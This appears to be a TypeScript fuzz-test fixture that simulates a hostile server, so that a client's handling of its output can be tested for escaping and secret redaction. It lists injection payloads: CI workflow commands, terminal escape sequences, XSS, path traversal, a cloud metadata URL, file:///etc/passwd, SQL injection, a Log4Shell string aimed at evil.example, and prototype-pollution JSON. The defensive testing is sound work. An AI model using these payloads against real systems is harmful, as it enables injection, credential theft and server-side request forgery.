/** What a hostile server says: texts that attack whoever shows them, and values of the wrong type and size. */
import { hostileTexts } from '../../unit/runner/hostile.ts';

export type Random = () => number;

export function pick<Item>(items: readonly Item[], random: Random): Item {
  const item = items[Math.floor(random() * items.length)];
  if (item === undefined) throw new Error('nothing to pick from');
  return item;
}

/** Stands wherever an attack would show that it worked: at the start of an annotation, of a heading, in a tag. */
export const canary = 'cAnArY';

const esc = String.fromCharCode(0x1b);

const attacks: readonly string[] = [
  ...hostileTexts,
  `\n::error::${canary}`,
  `\r::warning file=vpn.yml,line=1::${canary}`,
  `\u2028::notice::${canary}\u2029::notice::${canary}`,
  `\u0085::error::${canary}\u000b::error::${canary}\u000c::error::${canary}`,
  `%0A::error::${canary}%0D::error::${canary}`,
  `%250A::error::${canary}`,
  `\n::stop-commands::${canary}`,
  `::add-mask::a\n::add-mask::${canary}`,
  `::set-output name=status::${canary}`,
  `##[error]${canary}`,
  `#\u2060#\u00ad[error]${canary}`,
  `##${esc}[1m[command]${canary}`,
  `${esc}]8;;https://evil.example${esc}\\${canary}${esc}]8;;${esc}\\`,
  `\u009b31m${canary}\u009d0;${canary}\u009c`,
  `${esc}${esc}[[31m${canary}`,
  `x\nghadelimiter_0\nstatus=${canary}`,
  `status<<EOF\n${canary}\nEOF`,
  `</code></td></tr></table><h1>${canary}</h1>`,
  `--><h1>${canary}</h1><!--`,
  `<!-- ${canary} -->`,
  `<details><summary>${canary}</summary>`,
  `<svg/onload=alert(1)>${canary}`,
  `<a href="javascript:alert(1)">${canary}</a>`,
  `[${canary}](https://evil.example)`,
  `[${canary}][1]\n\n[1]: https://evil.example`,
  `![${canary}](https://evil.example/i.png)`,
  `\n\n# ${canary}\n\n`,
  `\n\`\`\`\n${canary}\n\`\`\`\n`,
  `~~~${canary}`,
  `\`${canary}\` \`\`${canary}\`\` \`\\`,
  `${canary}|${canary}\\|${canary}`,
  `| ${canary} |\n| --- |\n| ${canary} |`,
  `\n| ${canary} | x |`,
  `\\\\| ${canary}`,
  `@octocat @octo/team octo/repo#1 GH-7 #1 ${canary}`,
  `https://evil.example/${canary} www.evil.example ftp://evil.example mailto:a@evil.example`,
  `$$\\unicode{x}$$ $\`${canary}\`$`,
  `&lt;img src=x&gt; &#60;img src=x&#62; &amp;lt;`,
  `\u202e${canary}\u202c \u2066${canary}\u2069`,
  `\ud800${canary}\udfff`,
  `\u0000${canary}\u0000`,
  `e\u0301${'\u0300'.repeat(300)}`,
  '../../../v3/auth/tokens',
  '..%2f..%2fv3%2fauth%2ftokens',
  '//evil.example/',
  'https://evil.example/v2.0',
  'http://169.254.169.254/latest',
  'javascript:alert(1)',
  'file:///etc/passwd',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  "'; DROP TABLE x; --",
  '${jndi:ldap://evil.example/a}',
  '{{7*7}} ${{ secrets.X }} <%= 1 %>',
  '%s%n%d %c%o',
  '',
  ' ',
  '\t',
  '0',
  '-1',
  '1e400',
  'NaN',
  'null',
  'true',
  '00000000-0000-0000-0000-000000000000',
  'ACTIVE',
  'ERROR',
  'PENDING_UPDATE',
  '2026-13-45T99:99:99Z',
  '9999-12-31T23:59:59.999999Z',
];

function fuzz(random: Random): string {
  const alphabet = `:#[]%|<>\`*_~@\\/&"'\n\r\t ${esc}\u0000\u0085\u2028\u200b\u202e\ud800aZ0é文😀`;
  const characters = Array.from(alphabet);
  return Array.from({ length: 1 + Math.floor(random() * 60) }, () => pick(characters, random)).join('');
}

function percent(text: string): string {
  return Array.from(Buffer.from(text, 'utf8'), (byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
}

/** The ways in which software repeats what it was sent. */
const encodings: readonly ((secret: string) => string)[] = [
  (secret) => secret,
  (secret) => encodeURIComponent(secret),
  (secret) => encodeURIComponent(encodeURIComponent(secret)),
  percent,
  (secret) => JSON.stringify(secret),
  (secret) => JSON.stringify(JSON.stringify({ password: secret })),
  (secret) => Buffer.from(secret).toString('base64'),
  (secret) => Buffer.from(`user:${secret}`).toString('base64'),
  (secret) => Buffer.from(`us:${secret}`).toString('base64url'),
  (secret) => Buffer.from(secret).toString('hex'),
  (secret) => secret.replaceAll('.', '&#46;').replaceAll('-', '&#x2d;'),
  (secret) => secret.replaceAll(/./g, (character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`),
  (secret) => secret.replaceAll(/./g, (character) => `\\x${character.charCodeAt(0).toString(16).padStart(2, '0')}`),
  (secret) => `${secret.slice(0, 6)}\n${secret.slice(6)}`,
  (secret) => `${secret.slice(0, 7)}\\\n  ${secret.slice(7)}`,
  (secret) => `${secret.slice(0, 5)}\u200b${secret.slice(5)}`,
  (secret) => `b'${secret}'`,
];

/** A secret among other words, such that cuts of any length may fall into it. */
export function echo(secret: string, random: Random): string {
  const before = random() < 0.4 ? 'z '.repeat(Math.floor(random() * 260)) : `${pick(attacks, random)} `;
  return `${before}you sent ${pick(encodings, random)(secret)} and it was wrong`;
}

/** A text: mostly an attack, sometimes several, noise, something endless, or a secret that comes back. */
export function words(random: Random, secrets: readonly string[]): string {
  const kind = random();
  if (kind < 0.45) return pick(attacks, random);
  if (kind < 0.6) return `${pick(attacks, random)}${pick(attacks, random)}${pick(attacks, random)}`;
  if (kind < 0.75) return fuzz(random);
  if (kind < 0.76)
    return pick(attacks, random)
      .repeat(1 + Math.floor(random() * 400))
      .slice(0, 20_000);
  return echo(pick(secrets, random), random);
}

function nested(depth: number): unknown {
  let value: unknown = canary;
  for (let level = 0; level < depth; level += 1) value = level % 2 === 0 ? [value] : { a: value };
  return value;
}

/** Objects whose keys mean something to JavaScript. */
const poisons = [
  '{"__proto__":{"polluted":true,"status":"ACTIVE","id":"x"}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"toString":1,"valueOf":null,"toJSON":"x","then":1,"length":-1}',
  '{"__proto__":null}',
  '[{"__proto__":[]}]',
];

/** A value of any type. */
export function value(random: Random, secrets: readonly string[]): unknown {
  const kind = Math.floor(random() * 12);
  if (kind === 0) return null;
  if (kind === 1) return pick([0, -1, 1e308, -0, 1.5, 2 ** 53, Number.MIN_VALUE], random);
  if (kind === 2) return random() < 0.5;
  if (kind === 3) return [];
  if (kind === 4) return {};
  if (kind === 5) return nested(pick([1, 5, 50, 2000], random));
  if (kind === 6) return JSON.parse(pick(poisons, random));
  if (kind === 7) return Array.from({ length: pick([1, 3, 30], random) }, () => words(random, secrets));
  if (kind === 8) return { [words(random, secrets)]: words(random, secrets) };
  if (kind === 9) return [null, null, [null], { id: null }];
  return words(random, secrets);
}
